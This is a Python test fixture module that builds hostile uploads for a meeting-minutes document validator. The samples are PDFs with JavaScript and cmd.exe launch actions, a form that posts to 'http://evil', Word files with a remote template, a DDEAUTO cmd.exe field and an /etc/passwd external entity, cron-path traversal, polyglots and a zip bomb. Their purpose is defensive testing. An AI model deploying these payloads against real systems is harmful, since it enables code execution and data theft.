"""Malicious files for the minutes of a meeting."""

import io
import zipfile

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from csi.tests.support.hostile import HTML, PAYLOAD, PHP, HostileFile, zip_files
from csi.tests.support.hostile.pictures import SVG, draw
from forums.documents import MAX_SIZE, OLE_SIGNATURE, WORD_STREAM

NOT_A_DOCUMENT, LARGE, EMPTY = "not a PDF, Word or OpenDocument", "10 MB", "empty"
ACTIVE = "The file contains"
SCRIPT = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
WORD_97 = OLE_SIGNATURE + bytes(600) + WORD_STREAM
RELATIONSHIPS = "word/_rels/settings.xml.rels"
TYPES, DOCUMENT = "[Content_Types].xml", "word/document.xml"


def build_pdf(*, attachment=b"", password="", page=None, **catalog):
    """Return a PDF of one page with entries of the catalog and of the page."""
    file = io.BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        for name, value in catalog.items():
            pdf.Root[f"/{name}"] = value
        for name, value in (page or {}).items():
            pdf.pages[0].obj[f"/{name}"] = value
        if attachment:
            pdf.attachments["minutes.exe"] = attachment
        encryption = pikepdf.Encryption(owner=password, user=password) if password else None
        pdf.save(file, encryption=encryption, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return file.getvalue()


PDF = build_pdf()


def link(action):
    return {"Annots": Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)])}


def list_active_documents():
    """Return {description: content} of documents that act when a person opens them."""
    word = {TYPES: b"<Types/>", DOCUMENT: b"<document/>"}
    text = {"mimetype": b"application/vnd.oasis.opendocument.text"}
    template = b'<Relationship Type="http://a/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/>'
    picture = template.replace(b"attachedTemplate", b"image").replace(b'"', b"'")
    launch = Dictionary(S=Name.Launch, F=String("cmd.exe"))
    later = Dictionary(S=Name.GoTo, D=Array([0]), Next=SCRIPT)
    return {
        "PDF with a script on opening": build_pdf(OpenAction=SCRIPT),
        "PDF with a script after another action": build_pdf(OpenAction=later),
        "PDF with a named script": build_pdf(
            Names=Dictionary(JavaScript=Dictionary(Names=Array([String("a"), SCRIPT])))
        ),
        "PDF with a script of a page": build_pdf(page={"AA": Dictionary(O=SCRIPT)}),
        "PDF that starts a program": build_pdf(OpenAction=launch),
        "PDF with a link that starts a program": build_pdf(page=link(launch)),
        "PDF with a form that sends data": build_pdf(page=link(Dictionary(S=Name.SubmitForm, F=String("http://evil")))),
        "PDF with an XFA form": build_pdf(AcroForm=Dictionary(XFA=String("<xdp/>"), Fields=Array([]))),
        "PDF with an attachment": build_pdf(attachment=PAYLOAD),
        "PDF with a password": build_pdf(password="secret"),
        "PDF without pages": b"%PDF-1.7\n%%EOF",
        "PDF that is also an archive": PDF + zip_files({"evil.exe": PAYLOAD}),
        "PDF that is also HTML": PDF + HTML,
        "Word file with a template from the web": zip_files(word | {RELATIONSHIPS: template}),
        "Word file with a picture from the web": zip_files(word | {RELATIONSHIPS: picture}),
        "Word file with an embedded object": zip_files(word | {"word/embeddings/oleObject1.bin": PAYLOAD}),
        "Word file with a DDE field": zip_files(
            word | {DOCUMENT: b'<w:instrText>DDEAUTO c:\\windows\\cmd.exe "/k calc"</w:instrText>'}
        ),
        "Word file with an external entity": zip_files(
            word | {DOCUMENT: b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'}
        ),
        "Word file followed by HTML": zip_files(word) + HTML,
        "Word file that is also a PDF": zip_files({"a.txt": PDF} | word, zipfile.ZIP_STORED),
        "OpenDocument with a script": zip_files(text | {"content.xml": b"<script:event-listener/>"}),
        "OpenDocument with a section from the web": zip_files(text | {"content.xml": b"<text:section-source/>"}),
        "Word 97 file with macros": WORD_97 + "_VBA_PROJECT".encode("utf-16-le"),
        "Word 97 file that is also an archive": WORD_97 + zip_files({"evil.exe": PAYLOAD}),
    }


def list_harmless_documents():
    """Return {description: content} of documents that look alike and must be accepted."""
    hyperlink = b'<Relationship Type="http://a/hyperlink" Target="https://www.osce.org" TargetMode="External"/>'
    return {
        "PDF that opens at its first page": build_pdf(OpenAction=Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]))),
        "PDF with a web address": build_pdf(page=link(Dictionary(S=Name.URI, URI=String("https://www.osce.org")))),
        "Word file with a web address": zip_files(
            {TYPES: b"<Types/>", DOCUMENT: b"<document/>", RELATIONSHIPS: hyperlink}
        ),
    }


def list_documents():
    word = {TYPES: b"<Types/>", DOCUMENT: b"<document/>"}
    refused = {
        "HTML": HTML,
        "PHP": PHP,
        "SVG": SVG,
        "picture": draw(),
        "picture that is also a PDF": draw(comment=PDF),
        "HTML that is also a PDF": HTML + PDF,
        "Windows program that is also a PDF": b"MZ\x90\0" + PDF,
        "GIF that is also a Word file": draw("GIF") + zip_files(word),
        "archive": zip_files({"minutes.pdf": PDF}),
        "Java archive that is also a Word file": zip_files(word | {"META-INF/MANIFEST.MF": PAYLOAD}),
        "Word file with macros": zip_files(word | {"word/vbaProject.bin": PAYLOAD}),
        "OpenDocument with macros": zip_files(
            {"mimetype": b"application/vnd.oasis.opendocument.text", "Basic/Standard/Module1.xml": PAYLOAD}
        ),
        "Word file that decompresses to 110 MB": zip_files(word | {"word/media/a.png": bytes(110_000_000)}),
        "Word file with a path outside the archive": zip_files(word | {"../../etc/cron.d/evil": PAYLOAD}),
        "Rich Text": b"{\\rtf1 " + PAYLOAD + b"}",
        "Excel 97 file": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    }
    return [
        *(HostileFile(description, content, "minutes.pdf", NOT_A_DOCUMENT) for description, content in refused.items()),
        *(HostileFile(name, content, "minutes.pdf", ACTIVE) for name, content in list_active_documents().items()),
        HostileFile("empty file", b"", "minutes.pdf", EMPTY),
        HostileFile("PDF of 11 MB", PDF + bytes(MAX_SIZE), "minutes.pdf", LARGE),
        *(HostileFile(f"PDF named {name!r}", PDF, name) for name in ("../../evil.html", "evil.php", "evil.pdf\0.html")),
    ]
